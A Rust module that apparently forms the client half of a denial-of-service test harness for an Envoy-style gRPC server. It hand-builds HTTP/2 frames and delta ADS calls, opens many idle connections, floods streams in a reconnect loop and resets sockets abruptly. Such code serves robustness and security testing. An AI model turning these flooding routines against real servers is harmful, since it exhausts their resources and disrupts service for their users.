//! A client without manners: raw bytes on a socket, and frames made by hand.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

/// How an attacker connects. Cleartext is [`tcp`]; TLS is another.
pub(crate) type Connector = fn(SocketAddr) -> io::Result<Box<dyn Socket>>;

/// A transport, with the socket under it.
pub(crate) trait Socket: Read + Write + Send {
    fn tcp(&self) -> &TcpStream;
}

impl Socket for TcpStream {
    fn tcp(&self) -> &TcpStream {
        self
    }
}

pub(crate) fn tcp(address: SocketAddr) -> io::Result<Box<dyn Socket>> {
    Ok(Box::new(TcpStream::connect_timeout(&address, Duration::from_secs(2))?))
}

/// Target of an attack, and its duration.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Target {
    pub(crate) address: SocketAddr,
    pub(crate) until: Instant,
    pub(crate) connect: Connector,
}

impl Target {
    /// Target of an attack that begins now.
    pub(crate) fn new(address: SocketAddr, length: Duration) -> Self {
        Self { address, until: Instant::now() + length, connect: tcp }
    }

    pub(crate) fn lasts(&self) -> bool {
        Instant::now() < self.until
    }

    /// Sleeps to the end.
    pub(crate) fn hold(&self) {
        std::thread::sleep(self.until.saturating_duration_since(Instant::now()));
    }

    /// A new connection, if the relay takes any.
    pub(crate) fn peer(&self) -> Option<Peer> {
        let socket = (self.connect)(self.address).ok();
        if socket.is_none() {
            std::thread::sleep(Duration::from_millis(5));
        }
        let socket = socket?;
        socket.tcp().set_nodelay(true).ok()?;
        socket.tcp().set_write_timeout(Some(Duration::from_millis(100))).ok()?;
        socket.tcp().set_read_timeout(Some(Duration::from_millis(1))).ok()?;
        Some(Peer(socket))
    }

    /// A new connection of HTTP/2 that has introduced itself.
    pub(crate) fn peer2(&self) -> Option<Peer> {
        let mut peer = self.peer()?;
        peer.say(&preface(0x7fff_ffff)).then_some(peer)
    }

    /// So many connections that say this and then nothing.
    pub(crate) fn peers(&self, count: usize, says: &[u8]) -> Vec<Peer> {
        let mut peers = Vec::new();
        while peers.len() < count && self.lasts() {
            peers.extend(self.peer().and_then(|mut peer| peer.say(says).then_some(peer)));
        }
        peers
    }

    /// Says `flood(n)` for n = 0, 1, … on a connection of HTTP/2, reads what comes back, and comes again when it is closed.
    pub(crate) fn flood(&self, start: &[u8], mut flood: impl FnMut(u32) -> Vec<u8>) {
        while self.lasts() {
            let Some(mut peer) = self.peer2() else { continue };
            let mut open = peer.say(start);
            let mut turn = 0;
            while open && self.lasts() {
                open = peer.say(&flood(turn)) && peer.listen();
                turn += 1;
            }
        }
    }
}

pub(crate) struct Peer(Box<dyn Socket>);

impl Peer {
    pub(crate) fn new(socket: Box<dyn Socket>) -> Self {
        Self(socket)
    }

    /// Whether all of it was taken; a relay that does not read is waited for.
    pub(crate) fn say(&mut self, mut bytes: &[u8]) -> bool {
        let patience = Instant::now() + Duration::from_secs(1);
        while !bytes.is_empty() {
            match self.0.write(bytes) {
                Ok(0) => return false,
                Ok(written) => bytes = &bytes[written..],
                Err(error) if is_timeout(&error) && Instant::now() < patience => {
                    if !self.listen() {
                        return false;
                    }
                }
                Err(_) => return false,
            }
        }
        true
    }

    /// Reads what there is. Whether the connection is still open.
    pub(crate) fn listen(&mut self) -> bool {
        let mut bytes = [0; 16 << 10];
        loop {
            match self.0.read(&mut bytes) {
                Ok(0) => return false,
                Ok(read) if read < bytes.len() => return true,
                Ok(_) => {}
                Err(error) => return is_timeout(&error),
            }
        }
    }

    /// Reads until the other side closes, for so long.
    pub(crate) fn hear(&mut self, patience: Duration) -> Vec<u8> {
        let until = Instant::now() + patience;
        let mut heard = Vec::new();
        let mut bytes = [0; 16 << 10];
        while Instant::now() < until {
            match self.0.read(&mut bytes) {
                Ok(0) => break,
                Ok(read) => heard.extend_from_slice(&bytes[..read]),
                Err(error) if is_timeout(&error) => {}
                Err(_) => break,
            }
        }
        heard
    }

    /// Leaves without a word: the other side is reset.
    pub(crate) fn vanish(self) {
        _ = socket2::SockRef::from(self.0.tcp()).set_linger(Some(Duration::ZERO));
    }
}

fn is_timeout(error: &io::Error) -> bool {
    matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut)
}

pub(crate) const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
pub(crate) const PRIORITY: u8 = 2;
pub(crate) const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
pub(crate) const PING: u8 = 6;
pub(crate) const WINDOW_UPDATE: u8 = 8;
pub(crate) const CONTINUATION: u8 = 9;
pub(crate) const END_STREAM: u8 = 1;
pub(crate) const END_HEADERS: u8 = 4;

pub(crate) const DELTA_ADS: &str =
    "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources";

pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
    let [d, e, f, g] = stream.to_be_bytes();
    [&[a, b, c, kind, flags, d, e, f, g], payload].concat()
}

pub(crate) fn setting(id: u16, value: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[&id.to_be_bytes()[..], &value.to_be_bytes()].concat())
}

/// First bytes of a client: it takes so much on each stream, and the most there is on all of them.
pub(crate) fn preface(window: u32) -> Vec<u8> {
    let more = (0x7fff_ffff_u32 - 65_535).to_be_bytes();
    [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &setting(4, window), &frame(WINDOW_UPDATE, 0, 0, &more)]
        .concat()
}

/// A field of a header block, literal and kept in no table.
pub(crate) fn field(name: &str, value: &str) -> Vec<u8> {
    let short = |text: &str| u8::try_from(text.len()).unwrap().min(126);
    [&[0, short(name)], name.as_bytes(), &[short(value)], value.as_bytes()].concat()
}

/// The block of a gRPC call.
pub(crate) fn call_block(path: &str) -> Vec<u8> {
    // POST, http, and a literal path.
    let start = [0x83, 0x86, 0x04, u8::try_from(path.len()).unwrap()];
    [&start[..], path.as_bytes(), &field("content-type", "application/grpc"), &field("te", "trailers")]
        .concat()
}

/// Opens a call of delta ADS.
pub(crate) fn call(stream: u32, flags: u8) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | flags, stream, &call_block(DELTA_ADS))
}

/// A gRPC message that fits into a window.
pub(crate) fn message(stream: u32, flags: u8, bytes: &[u8]) -> Vec<u8> {
    let whole = [&[0][..], &(bytes.len() as u32).to_be_bytes(), bytes].concat();
    let mut out = Vec::new();
    let mut pieces = whole.chunks(16 << 10).peekable();
    while let Some(piece) = pieces.next() {
        let flags = if pieces.peek().is_none() { flags } else { 0 };
        out.extend(frame(DATA, flags, stream, piece));
    }
    out
}

/// The n-th stream of a client.
pub(crate) const fn stream(n: u32) -> u32 {
    n * 2 + 1
}
